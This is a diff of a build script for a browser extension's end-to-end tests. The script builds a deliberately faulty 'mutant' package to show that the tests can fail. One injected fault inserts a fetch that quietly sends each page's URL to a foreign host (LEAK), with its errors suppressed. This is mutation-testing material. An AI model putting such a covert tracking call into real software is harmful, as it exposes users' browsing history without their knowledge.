@@ -1,22 +1,22 @@
 /**
- * Builds the package with two faults put into its source, for the test that the other tests can fail: matching finds nothing,
- * and every look-up tells a stranger which page it was for. Run by the build of the end-to-end tests.
+ * Builds the package with two faults in its source, for the test that shows that other tests can fail: matching finds nothing,
+ * and every look-up sends its page to a foreign host. `build-packages.ts` runs it.
  */
 import type { Plugin } from 'vite'
 import { BROWSERS, buildFor } from '../../../scripts/extension.ts'
 import { LEAK, mutantOf } from './packages.ts'
 
-/** A fault: in the file, what is there becomes what is not wanted. */
+/** Replaces `from` by `to` in the source file whose path ends with `file`. */
 type Fault = { readonly file: string; readonly from: string; readonly to: string }
 
 const FAULTS: readonly Fault[] = [
   {
-    file: 'src/core/index/story-reader.ts',
+    file: '/story-reader.ts',
     from: '  addresses.flatMap(',
     to: '  addresses.slice(addresses.length).flatMap(',
   },
   {
-    file: 'src/background/count.ts',
+    file: '/background/count.ts',
     from: 'await setBadge(tabId, outlets)',
     to: `await setBadge(tabId, outlets)\n    await fetch('${LEAK}?page=' + encodeURIComponent(report.url), { mode: 'no-cors' }).catch(() => {})`,
   },
